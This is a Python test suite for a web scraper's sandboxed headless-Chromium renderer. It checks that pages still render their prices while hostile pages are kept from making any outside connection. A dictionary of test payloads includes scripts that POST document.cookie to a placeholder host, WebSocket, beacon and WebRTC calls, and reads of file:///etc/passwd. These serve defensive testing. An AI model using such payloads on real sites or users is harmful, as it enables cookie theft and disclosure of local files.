"""Pages that a script fills in, by a real Chromium that makes no connection of its own."""

from __future__ import annotations

import contextlib
import json
import os
import re
import socket
import subprocess
import time
from collections.abc import Iterator, Mapping
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from urllib.request import Request, urlopen

import psutil
import pytest

from gpuledger.extract.errors import Blocked, ForeignHost, NoBrowser, NotFound, Timeout, TooLarge
from gpuledger.extract.fetch import browser as browsers
from gpuledger.extract.fetch import visit
from gpuledger.extract.fetch.browser import Browser, BrowserSettings
from gpuledger.extract.fetch.fetched import Fetched
from gpuledger.extract.fetch.http import Client, HttpSettings
from gpuledger.extract.fetch.site import site_of
from gpuledger.extract.product import parse
from gpuledger.extract.sample import server
from gpuledger.extract.source import Page
from gpuledger.flows.night import gather
from tests.extract.faulty_server import Exchange, FaultyServer, Route, page, redirect
from tests.flows.inprocess import context
from tools import browser as tools_browser

WHY_NOT = tools_browser.why_not()
if WHY_NOT and os.environ.get("BROWSER_REQUIRED"):
    raise AssertionError(f"a browser was to be installed for these tests: {WHY_NOT}")
pytestmark = pytest.mark.skipif(WHY_NOT is not None, reason=WHY_NOT or "")

HOST = "shop.test"
JS, HTML = {"Content-Type": "text/javascript"}, {"Content-Type": "text/html; charset=utf-8"}
JSON = {"Content-Type": "application/json"}
#: A page whose price a script fetches when all else was done; what is hostile stands before it.
CARD = """<!doctype html><html><head><title>Norvik Storm GeForce RTX 4090</title>
<script type="application/ld+json" id="ld"></script></head><body><h1>Norvik Storm GeForce RTX 4090</h1>
<p class="price" id="price"></p>%s<script src="/app.js"></script></body></html>"""
APP = b"""fetch("/api/price").then(r => r.json()).then(p => { document.getElementById("price").textContent = "$" + p.price;
document.getElementById("ld").textContent = JSON.stringify({"@context": "https://schema.org", "@type": "Product",
"name": "Norvik Storm GeForce RTX 4090", "offers": {"@type": "Offer", "price": p.price, "priceCurrency": "USD",
"availability": "https://schema.org/InStock"}}); });"""
PRICE = b'<p class="price" id="price">$1749.99</p>'


class Shop:
    """A shop on loopback, and beside it what no page may reach: a server by TCP and a listener by UDP."""

    def __init__(self) -> None:
        self.server, self.trap = FaultyServer(), FaultyServer()
        self.own = "127.0.0.1"
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        # Of the machine's own address where it has one: calls do not use loopback.
        self.udp.bind(("", 0))
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe, contextlib.suppress(OSError):
            probe.connect(("192.0.2.1", 9))
            self.own = probe.getsockname()[0]
        self.udp.setblocking(False)
        self.server.routes = {
            "/app.js": page(APP, JS), "/api/price": page(b'{"price": "1749.99"}', JSON),
            "/pixel.png": page(b"\x89PNG", {"Content-Type": "image/png"}), "/font.woff2": page(b"wOF2"),
        }  # fmt: skip
        self.http = HttpSettings(delay_s=0.0, max_attempts=1, connect_to={HOST: ("127.0.0.1", self.server.port)})
        self.client = Client(self.http)
        self.settings = BrowserSettings(
            program=os.environ.get("CHROMIUM", ""), deadline_s=30.0, quiet_s=0.25, max_body_bytes=1_000_000
        )
        self.site = site_of([f"http://{HOST}/"])

    def __enter__(self) -> Shop:
        with contextlib.ExitStack() as stack:
            stack.enter_context(self.udp)
            stack.enter_context(self.server)
            stack.enter_context(self.trap)
            stack.enter_context(self.client)
            self.browser = stack.enter_context(Browser(self.client, self.settings, self.http.agent))
            self._stack = stack.pop_all()
        return self

    def __exit__(self, *_: object) -> None:
        self._stack.close()

    def put(self, path: str, before: str = "", more: Mapping[str, Route] | None = None) -> str:
        """A page that does something before its price comes, at a path of the shop; its address."""
        self.server.routes |= {path: page((CARD % before).encode(), HTML)} | dict(more or {})
        return f"http://{HOST}{path}"

    def render(self, path: str, before: str = "", more: Mapping[str, Route] | None = None) -> Fetched:
        self.server.asked.clear()
        return self.browser.render(self.put(path, before, more), self.site)

    @contextlib.contextmanager
    def set_to(self, **changes: Any) -> Iterator[None]:
        before = self.browser._settings
        self.browser._settings = replace(before, **changes)
        yield
        self.browser._settings = before

    def packets(self) -> int:
        count = 0
        with contextlib.suppress(BlockingIOError):
            while self.udp.recv(2048):
                count += 1
        return count


@pytest.fixture(scope="module")
def shop() -> Iterator[Shop]:
    with Shop() as made:
        yield made
    left = [one for one in psutil.Process().children(recursive=True) if made.browser._mark in " ".join(one.cmdline())]
    assert left == [], "nothing stays of it"


def made_of(rendered: Fetched) -> dict[str, dict[str, Any]]:
    found = re.search(r"<!-- rendered from (\[.*\]) -->\s*$", rendered.content.decode())
    assert found is not None
    return {part["url"].removeprefix(f"http://{HOST}"): part for part in json.loads(found[1])}


def test_a_price_that_a_script_fetches_is_in_the_page(shop: Shop) -> None:
    looks = (
        '<img src="/pixel.png"><link rel="stylesheet" href="/a.css"><script src="//tracker.test/t.js"></script>'
        "<style>@font-face{font-family:x;src:url(/font.woff2)} p{font-family:x}</style>"
    )
    rendered = shop.render("/card", looks)
    assert PRICE in rendered.content
    assert rendered.url == f"http://{HOST}/card"
    (offer,) = parse(
        Page(url=rendered.url, final_url=rendered.final_url, content=rendered.content, sha256="0" * 64,
             fetched_at=datetime(2026, 1, 1, tzinfo=UTC), headers=rendered.headers)
    )  # fmt: skip
    assert (str(getattr(offer, "price", None)), getattr(offer, "availability", None)) == ("1749.99", "in_stock")
    assert shop.server.paths() == ["/card", "/app.js", "/api/price"], "no picture, no font, no style"
    assert {exchange.headers.get("user-agent") for exchange in shop.server.asked} == {shop.http.agent}
    parts = made_of(rendered)
    assert [path for path, part in parts.items() if "sha256" in part] == ["/api/price", "/app.js", "/card"]
    assert "not fetched" in parts["/pixel.png"]["refused"]
    assert parts["http://tracker.test/t.js"]["refused"].startswith("ForeignHost")
    assert shop.render("/card", looks).content == rendered.content, "the same page twice has the same bytes"
    assert shop.server.paths() == ["/card", "/api/price"], "a script is fetched once"


def test_what_the_client_refuses_the_page_does_not_get(shop: Shop) -> None:
    with pytest.raises(NotFound):
        shop.browser.render(f"http://{HOST}/nowhere", shop.site)
    with pytest.raises(ForeignHost):
        shop.browser.render("http://elsewhere.test/card", shop.site)
    wall = {"/wall": page(b"<body><p>one</p><script>document.title = 'Robot or human?'</script></body>", HTML)}
    shop.server.routes |= wall
    with pytest.raises(Blocked, match="a captcha"):
        shop.browser.render(f"http://{HOST}/wall", shop.site)
    shop.server.routes["/robots.txt"] = page(b"User-agent: *\nDisallow: /api/\n", {"Content-Type": "text/plain"})
    with Client(shop.http) as fresh:
        shop.browser._client = fresh
        rendered = shop.render("/card")
    shop.browser._client = shop.client
    del shop.server.routes["/robots.txt"]
    assert made_of(rendered)["/api/price"]["refused"] == f"RobotsDisallowed: http://{HOST}/robots.txt forbids it"
    assert PRICE not in rendered.content


def test_where_a_page_goes_its_links_stand_against_the_new_place(shop: Shop) -> None:
    near = {"/new/near.js": page(b"document.title = 'near'", JS), "/moved": redirect("/new/place")}
    shop.put("/new/place", '<script src="near.js"></script>', near)
    assert shop.browser.render(f"http://{HOST}/moved", shop.site).final_url == f"http://{HOST}/new/place"
    by_script = shop.render("/start", '<script>location.replace("/new/place")</script>')
    assert by_script.final_url == f"http://{HOST}/new/place"
    assert b"<title>near</title>" in by_script.content
    once = '<script>if (!location.hash) { location.hash = "again"; location.reload() }</script>'
    assert PRICE in shop.render("/round", once).content
    feed = {"/feed.xml": page(b"<?xml version='1.0'?><urlset></urlset>", {"Content-Type": "application/xml"})}
    shop.server.routes |= feed
    assert shop.browser.render(f"http://{HOST}/feed.xml", shop.site).content.endswith(b"<urlset></urlset>"), (
        "as it came"
    )


TCP, UDP = "@TCP@", "@UDP@"
FRAME = 'const f = document.createElement("iframe"); document.body.append(f); const w = f.contentWindow; '
CALL = """try {
    const c = new w.RTCPeerConnection({iceServers: [{urls: "stun:@UDP@"},
        {urls: "turn:@TCP@?transport=tcp", username: "a", credential: "b"}]});
    c.createDataChannel("x"); c.createOffer().then(o => c.setLocalDescription(o));
} catch (e) {}"""
WORK = """try {
    new w.Worker(w.URL.createObjectURL(new w.Blob([`
        fetch("http://@TCP@/w"); try { importScripts("http://@TCP@/i.js") } catch (e) {} new WebSocket("ws://@TCP@/s")`])));
} catch (e) {}"""


def script(text: str) -> str:
    return f"<script>{text}</script>"


#: What a page tries: each has the addresses of the listeners put in.
HOSTILE = {
    "pictures": '<img src="http://@TCP@/a.png"><picture><source srcset="http://@TCP@/b.webp"></picture>'
    '<video autoplay src="http://@TCP@/v.mp4" poster="http://@TCP@/v.png"></video><audio src="http://@TCP@/a.mp3"></audio>',
    "a connection ahead": '<link rel="preconnect" href="http://@TCP@"><link rel="dns-prefetch" href="//@TCP@">',
    "a page ahead": '<link rel="prefetch" href="http://@TCP@/p"><link rel="prerender" href="http://@TCP@/q">'
    '<link rel="modulepreload" href="http://@TCP@/m"><link rel="preload" as="script" href="http://@TCP@/n">',
    "rules of speculation": '<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["http://@TCP@/s"]}], '
    '"prerender": [{"source": "list", "urls": ["http://@TCP@/t", "/pixel.png"]}]}</script>',
    "a fetch": script('fetch("http://@TCP@/f").catch(e => 0); fetch("http://localhost:" + "@TCP@".split(":")[1])'),
    "a post": script(
        'fetch("http://@TCP@/f", {method: "POST", body: document.cookie, mode: "no-cors"}).catch(e => 0);'
        'fetch("http://@TCP@/k", {mode: "no-cors", keepalive: true}).catch(e => 0)'
    ),
    "an old request": script(
        'const x = new XMLHttpRequest(); x.open("GET", "http://@TCP@/x", false); try { x.send() } catch (e) {}'
    ),
    "a beacon": script('navigator.sendBeacon("http://@TCP@/b", "x")'),
    "a socket": script('try { new WebSocket("ws://@TCP@/w") } catch (e) {}'),
    "a socket of a frame": script(FRAME + 'try { new w.WebSocket("ws://@TCP@/w") } catch (e) {}'),
    "a socket of a written frame": """<iframe srcdoc="<script>new WebSocket('ws://@TCP@/w')</script>"></iframe>""",
    "a stream of events": script('try { new EventSource("http://@TCP@/e") } catch (e) {}'),
    "a worker": script("const w = window; " + WORK),
    "a worker of a frame": script(FRAME + WORK),
    "a shared worker": script(
        'try { new SharedWorker("http://@TCP@/w.js") } catch (e) {} '
        'try { navigator.serviceWorker.register("/app.js") } catch (e) {}'
    ),
    "a call": script("const w = window; " + CALL),
    "a call of a frame": script(FRAME + CALL),
    "a transport": script('try { new WebTransport("https://@TCP@/t").ready.catch(e => 0) } catch (e) {}'),
    "a window": script('window.open("http://@TCP@/o"); ' + FRAME + 'w.open("http://@TCP@/p", "_blank")'),
    "a link with a ping": '<a id="l" href="http://@TCP@/l" ping="http://@TCP@/q" target="_blank">x</a>'
    + script("l.click()"),
    "a download": '<a id="d" href="http://@TCP@/d.zip" download>x</a>'
    + script('d.click(); location = "http://@TCP@/e.zip"'),
    "a form": '<form id="s" action="http://@TCP@/form" method="post"><input name="a"></form>' + script("s.submit()"),
    "another page": '<meta http-equiv="refresh" content="0;url=http://@TCP@/refresh">',
    "a frame": '<iframe src="http://@TCP@/f"></iframe><object data="http://@TCP@/o"></object><embed src="http://@TCP@/e">',
    "a style": '<style>@import "http://@TCP@/i.css"; body { background: url(http://@TCP@/bg.png) } '
    "@font-face { font-family: z; src: url(http://@TCP@/z.woff) } h1 { font-family: z }</style>",
    "a file of this machine": '<iframe src="file:///etc/passwd"></iframe>'
    + script('fetch("file:///etc/passwd").then(r => r.text()).then(t => document.body.append(t)).catch(e => 0)'),
}


def aimed(shop: Shop, tries: str) -> str:
    return tries.replace(TCP, f"127.0.0.1:{shop.trap.port}").replace(UDP, f"{shop.own}:{shop.udp.getsockname()[1]}")


def test_no_hostile_page_makes_a_connection_that_the_client_did_not_make(shop: Shop) -> None:
    assert len(HOSTILE) >= 20
    shop.server.asked.clear()
    before = shop.server.accepted
    addresses = [shop.put(f"/{number}", aimed(shop, tries)) for number, tries in enumerate(HOSTILE.values())]
    with ThreadPoolExecutor(8) as threads:
        pages = list(threads.map(lambda address: shop.browser.render(address, shop.site), addresses))
    asked = shop.server.paths()
    for name, rendered in zip(HOSTILE, pages, strict=True):
        # One that sets out for another place stops what it was about to load.
        is_read = PRICE in rendered.content or name in ("a download", "a form", "another page")
        assert is_read, f"{name}: the page itself is read all the same"
        assert b"root:" not in rendered.content
    assert sorted({*asked} - {"/app.js"}) == sorted({"/api/price", *(f"/{number}" for number in range(len(HOSTILE)))})
    assert asked.count("/api/price") >= len(HOSTILE) - 3, "what the pages asked the shop for, and the client fetched"
    assert shop.server.accepted - before <= 1, "the client's one connection a host"
    time.sleep(0.2)
    assert (shop.trap.accepted, shop.trap.paths(robots=True), shop.packets()) == (0, [], 0)


def test_a_page_without_end_is_ended(shop: Shop) -> None:
    with shop.set_to(deadline_s=1.5):
        with pytest.raises(Timeout, match=r"was not done after 1\.5 s"):
            shop.render("/loop", "<script>setTimeout(() => { while (true) {} }, 20)</script>")

        def late(exchange: Exchange) -> None:
            time.sleep(2)
            exchange.reply(200, b"", JS)

        with pytest.raises(Timeout, match=rf"waits for http://{HOST}/slow.js"):
            shop.render("/slow", '<script src="/slow.js"></script>', {"/slow.js": late})
    with pytest.raises(TooLarge, match="rendered it has"):
        shop.render("/large", "<script>document.body.append('x'.repeat(1100000))</script>")
    moving = (
        "<script>setInterval(() => { document.body.append('x'); fetch('/api/price?' + Math.random()) }, 20)</script>"
    )
    with pytest.MonkeyPatch.context() as patched:
        patched.setattr(browsers, "SETTLE_S", 1.0)
        assert PRICE in shop.render("/moving", moving).content, "what goes on changing is taken as it is"
    assert len(shop.server.asked) <= visit.MOST_PARTS + 1


def test_a_browser_that_was_ended_is_started_again(shop: Shop) -> None:
    browsers._kill(shop.browser._mark)
    assert PRICE in shop.render("/again").content


def test_the_browser_of_another_machine(shop: Shop, tmp_path: Path) -> None:
    """Driven by its DevTools protocol. The same one opens the same page by itself first: then the listeners hear of it."""
    arguments = ["--headless", "--no-sandbox", "--disable-gpu", "--remote-debugging-port=0",
                 "--allow-loopback-in-peer-connection", f"--user-data-dir={tmp_path}"]  # fmt: skip
    program = os.environ.get("CHROMIUM") or browsers.find()
    with subprocess.Popen([program, *arguments], stderr=subprocess.DEVNULL) as process, Shop() as other:
        try:
            file = tmp_path / "DevToolsActivePort"
            ends = time.monotonic() + 10
            while not (file.exists() and file.read_text().count("\n")) and time.monotonic() < ends:
                time.sleep(0.05)
            port = file.read_text().split()[0]
            tries = ("pictures", "a connection ahead", "a beacon", "a socket of a written frame", "a worker", "a call")
            other.put("/all", aimed(other, "".join(HOSTILE[name] for name in tries)))
            address = f"http://127.0.0.1:{port}"
            own = Request(f"{address}/json/new?http://127.0.0.1:{other.server.port}/all", method="PUT")
            with urlopen(own, timeout=600) as opened:
                tab = json.loads(opened.read())["id"]
            while other.trap.accepted < 3 and time.monotonic() < ends:
                time.sleep(0.05)
            assert other.trap.accepted >= 3, "the listener does hear a page that nothing holds back"
            with urlopen(f"{address}/json/close/{tab}", timeout=600):
                pass
            # Who connects while a page and its worker end may wait for them for ever.
            while f"127.0.0.1:{other.server.port}" in _targets(address) and time.monotonic() < ends + 20:
                time.sleep(0.05)
            time.sleep(0.3)
            before, _ = other.trap.accepted, other.packets()
            with Browser(other.client, replace(other.settings, address=address), other.http.agent) as remote:
                rendered = remote.render(f"http://{HOST}/all", other.site)
            assert PRICE in rendered.content
            time.sleep(0.2)
            assert (other.trap.accepted, other.packets()) == (before, 0)
            assert process.poll() is None, "it is not ours to end"
        finally:
            browsers._kill(f"--user-data-dir={tmp_path}")


def _targets(address: str) -> str:
    """What a browser says that it holds, as JSON."""
    with urlopen(f"{address}/json/list", timeout=600) as listed:
        return str(listed.read().decode())


def test_a_source_whose_pages_are_rendered_gives_the_same_rows(tmp_path: Path) -> None:
    """By the setting, on the sample's pages, which need no script: the browser takes nothing away and adds nothing."""
    rows = {}
    for name in ("", server.host("newegg")):
        run = context(tmp_path / (name or "plain"), 1)
        run = replace(run, only=("newegg",), settings=replace(run.settings, browser_sources=(name,) if name else ()))
        assert gather.needs_browser(run) == ([] if not name else ["newegg"])
        with gather.reader(run) as reader:
            (reading,) = gather.readings(run)
            collected = reader.read_source(reading)
        assert collected.failure is None
        rows[name] = [item for item, _ in collected.rows]
        contents = [reader.archive.content_of(sha256) for _, sha256 in collected.parsed]
        assert [b"<!-- rendered from " in content for content in contents] == [bool(name)] * 2, (
            "list and its second page"
        )
    assert rows[""] == rows[server.host("newegg")]


def test_without_a_browser_it_is_said_what_to_do(shop: Shop, monkeypatch: pytest.MonkeyPatch) -> None:
    def told(settings: BrowserSettings) -> str:
        with Browser(shop.client, settings, "x") as none, pytest.raises(NoBrowser) as refused:
            none.render(f"http://{HOST}/card", shop.site)
        return str(refused.value)

    shop.server.asked.clear()
    assert "no program is called no-such-browser; install Chromium" in told(BrowserSettings(program="no-such-browser"))
    with socket.create_server(("127.0.0.1", 0)) as free:
        port = free.getsockname()[1]
    assert "none answers at http://127.0.0.1" in told(BrowserSettings(address=f"http://127.0.0.1:{port}"))
    monkeypatch.setattr(browsers.importlib.util, "find_spec", lambda name: None)
    assert "pip install 'gpuledger[browser]'" in told(BrowserSettings())
    assert shop.server.paths() == [], "no page is fetched in vain"
